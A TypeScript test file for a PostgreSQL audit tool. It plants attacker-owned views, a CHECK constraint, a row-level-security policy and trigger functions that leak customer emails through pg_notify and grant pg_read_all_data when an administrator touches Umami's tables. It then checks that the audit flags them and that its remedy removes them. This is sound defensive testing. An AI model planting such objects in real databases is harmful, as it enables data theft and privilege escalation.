/**
 * Threat model class planted-code: umami_user (assume whoever compromised Umami runs SQL as it) plants code
 * in its own schema that runs with the rights of whoever reads or writes Umami's data — an administrator's
 * look at the tables, or its GDPR delete. Each path is first walked (the customer table really reaches
 * umami_user's session; umami_user really becomes a member of pg_read_all_data), then `verify` fails naming the
 * objects, the finding's remedy is run as written as umami_user, the administrator's same statements no longer
 * leak or escalate, and the audit passes again.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connect, withClient } from "../../../scripts/kernel/db.js";
import { applyRemedy, rows, startAuditStage, verifyCli, type AuditStage } from "./helpers.js";

let stage: AuditStage;

beforeAll(async () => {
  stage = await startAuditStage("Planted-Code-Password-0123456789abc");
  await stage.run("umami", RESTORE);
});
afterAll(async () => stage?.server.stop());

const RESTORE = "INSERT INTO umami.website VALUES ('00000000-0000-0000-0000-000000000042', 'umami-site')";
const CHECK = "inward: code in umami that runs with the reader's or writer's rights";

/** What umami_user's session hears on channel `leak` while `fn` runs as the administrator. */
async function heard(fn: () => Promise<unknown>): Promise<string> {
  const listener = await connect(stage.umami);
  try {
    const got: string[] = [];
    listener.on("notification", (n) => got.push(n.payload ?? ""));
    await listener.query("LISTEN leak");
    await fn().catch(() => undefined);
    await listener.query("SELECT 1"); // notifications sent before this round trip have arrived
    return got.join("\n");
  } finally {
    await listener.end();
  }
}

/** Whether umami_user has become a member of pg_read_all_data (the escalation's mark). */
async function escalated(): Promise<boolean> {
  const [{ m }] = await rows<{ m: boolean }>(
    stage,
    "admin",
    "SELECT pg_catalog.pg_has_role('umami_user', 'pg_read_all_data', 'MEMBER') AS m",
  );
  return m;
}

describe("planted-code", () => {
  it("a view and a CHECK constraint of umami_user's send the customers table to its session when an administrator reads or updates Umami's rows; dropping them closes it", async () => {
    const reader =
      "pg_catalog.query_to_xml('SELECT email FROM public.customers ORDER BY id LIMIT 3', true, true, '')::text";
    await stage.run(
      "umami",
      `
      CREATE VIEW umami.website_summary AS
        SELECT count(*) AS websites, pg_catalog.pg_notify('leak', ${reader})::text AS note FROM umami.website;
      ALTER TABLE umami.website ADD CONSTRAINT website_name_check CHECK (pg_catalog.pg_notify('leak', ${reader})::text IS NOT NULL) NOT VALID`,
    );
    // A DBA looks at Umami's data as Umami's owner would let it: a member of umami_user.
    await stage.run("admin", "GRANT umami_user TO app_admin");
    try {
      // Real: umami_user cannot read customers; the administrator's read and update send them to it.
      await expect(rows(stage, "umami", "SELECT email FROM public.customers")).rejects.toThrow(/permission denied/);
      expect(await heard(() => rows(stage, "admin", "SELECT websites FROM umami.website_summary"))).toContain(
        "customer1@example.com",
      );
      expect(await heard(() => rows(stage, "admin", "UPDATE umami.website SET name = name"))).toContain(
        "customer2@example.com",
      );

      const { code, finding } = await verifyCli(stage);
      expect(code).toBe(1);
      const f = finding(CHECK)!;
      expect(f).toMatchObject({
        class: "planted-code",
        severity: "fail",
        objects: [
          "view umami.website_summary: its functions run with the reader's rights, and it calls one that reaches data (outside pg_catalog, or query_to_xml, large objects, dblink, setval)",
          "constraint website_name_check ON umami.website: reaches data with the writer's rights (query_to_xml, large objects, dblink or setval)",
        ],
      });
      expect(await applyRemedy(stage, f.remedy, "umami")).toEqual([
        'DROP VIEW "umami"."website_summary";',
        'ALTER TABLE "umami"."website" DROP CONSTRAINT "website_name_check";',
      ]);
      expect(await heard(() => rows(stage, "admin", "UPDATE umami.website SET name = name"))).toBe("");
      await expect(rows(stage, "admin", "SELECT websites FROM umami.website_summary")).rejects.toThrow(
        /does not exist/,
      );
      const after = await verifyCli(stage);
      expect(after.finding(CHECK)!.severity).toBe("pass");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_admin");
      await stage.run(
        "umami",
        "DROP VIEW IF EXISTS umami.website_summary; ALTER TABLE umami.website DROP CONSTRAINT IF EXISTS website_name_check",
      );
    }
  });

  it("a policy's and a trigger's caller-rights functions make umami_user a member of pg_read_all_data when an administrator reads or deletes Umami's rows; DROP … CASCADE closes both", async () => {
    const grant = "EXECUTE 'GRANT pg_read_all_data TO umami_user'";
    await stage.run(
      "umami",
      `
      CREATE FUNCTION umami.visible() RETURNS boolean LANGUAGE plpgsql AS $f$
        BEGIN IF session_user <> 'umami_user' THEN ${grant}; END IF; RETURN true; END $f$;
      CREATE FUNCTION umami.retain() RETURNS trigger LANGUAGE plpgsql AS $f$
        BEGIN IF session_user <> 'umami_user' THEN ${grant}; END IF; RETURN OLD; END $f$;
      CREATE FUNCTION umami.unused() RETURNS integer LANGUAGE sql AS 'SELECT 1';
      ALTER TABLE umami.website ENABLE ROW LEVEL SECURITY;
      CREATE POLICY website_visible ON umami.website USING (umami.visible());
      CREATE TRIGGER website_retain BEFORE DELETE ON umami.website FOR EACH ROW EXECUTE FUNCTION umami.retain();
      -- The policy applies to readers that are not the owner (a member of umami_user counts as its owner):
      -- umami_user grants the administrator SELECT, which no check reports (administrators may hold anything).
      GRANT SELECT ON umami.website TO app_admin`,
    );
    try {
      // Real, twice: the administrator's read runs the policy's function, its delete the trigger's, as itself.
      expect(await rows(stage, "admin", "SELECT count(*)::int AS n FROM umami.website")).toEqual([{ n: 1 }]);
      expect(await escalated()).toBe(true);
      await stage.run("superuser", "REVOKE pg_read_all_data FROM umami_user");
      await stage.run("admin", "GRANT umami_user TO app_admin");
      await stage.run("admin", "DELETE FROM umami.website");
      expect(await escalated()).toBe(true);
      await stage.run("superuser", "REVOKE pg_read_all_data FROM umami_user");
      await stage.run("umami", RESTORE);

      const { code, finding } = await verifyCli(stage);
      expect(code).toBe(1);
      const f = finding(CHECK)!;
      expect(f).toMatchObject({
        class: "planted-code",
        severity: "fail",
        objects: [
          "policy website_visible ON umami.website: runs with the reader's rights, subqueries included",
          "function umami.retain() (SECURITY INVOKER): run with the caller's rights by trigger website_retain on table umami.website",
          "function umami.unused() (SECURITY INVOKER): called by nothing yet",
          "function umami.visible() (SECURITY INVOKER): run with the caller's rights by policy website_visible on table umami.website",
        ],
      });
      expect(await applyRemedy(stage, f.remedy, "umami")).toEqual([
        'DROP POLICY "website_visible" ON "umami"."website";',
        'DROP FUNCTION "umami"."retain"() CASCADE;',
        'DROP FUNCTION "umami"."unused"() CASCADE;',
        'DROP FUNCTION "umami"."visible"() CASCADE;',
      ]);
      await stage.run("admin", "DELETE FROM umami.website");
      await stage.run("umami", RESTORE);
      await stage.run("admin", "REVOKE umami_user FROM app_admin");
      expect(await rows(stage, "admin", "SELECT count(*)::int AS n FROM umami.website")).toEqual([{ n: 0 }]); // no policy left: RLS denies every row
      expect(await escalated()).toBe(false);
      const after = await verifyCli(stage);
      expect(after.finding(CHECK)!.severity).toBe("pass");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("superuser", "REVOKE pg_read_all_data FROM umami_user");
      await withClient(stage.server.admin, (c) => c.query("REVOKE umami_user FROM app_admin"));
      await stage.run(
        "umami",
        `
        DROP FUNCTION IF EXISTS umami.visible() CASCADE; DROP FUNCTION IF EXISTS umami.retain() CASCADE;
        DROP FUNCTION IF EXISTS umami.unused(); ALTER TABLE umami.website DISABLE ROW LEVEL SECURITY;
        REVOKE SELECT ON umami.website FROM app_admin`,
      );
    }
  });

  it("a function nothing calls and a view of built-ins that reach nothing for the reader are named, not failed: verify exits 0", async () => {
    await stage.run(
      "umami",
      `
      CREATE FUNCTION umami.unused() RETURNS integer LANGUAGE sql AS 'SELECT 1';
      CREATE VIEW umami.website_names AS SELECT pg_catalog.lower(name) AS name, pg_catalog.pg_notify('leak', name)::text AS note FROM umami.website`,
    );
    await stage.run("admin", "GRANT umami_user TO app_admin");
    try {
      // Real: the administrator's read sends umami_user only what umami_user already reads.
      expect(await heard(() => rows(stage, "admin", "SELECT name FROM umami.website_names"))).toBe("umami-site");
      const { code, finding } = await verifyCli(stage);
      expect(finding(CHECK)).toMatchObject({
        severity: "warn",
        objects: [
          "view umami.website_names: calls only built-ins that reach nothing with the reader's rights",
          "function umami.unused() (SECURITY INVOKER): called by nothing yet",
        ],
      });
      expect(code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_admin");
      await stage.run("umami", "DROP FUNCTION umami.unused(); DROP VIEW umami.website_names");
    }
  });
});
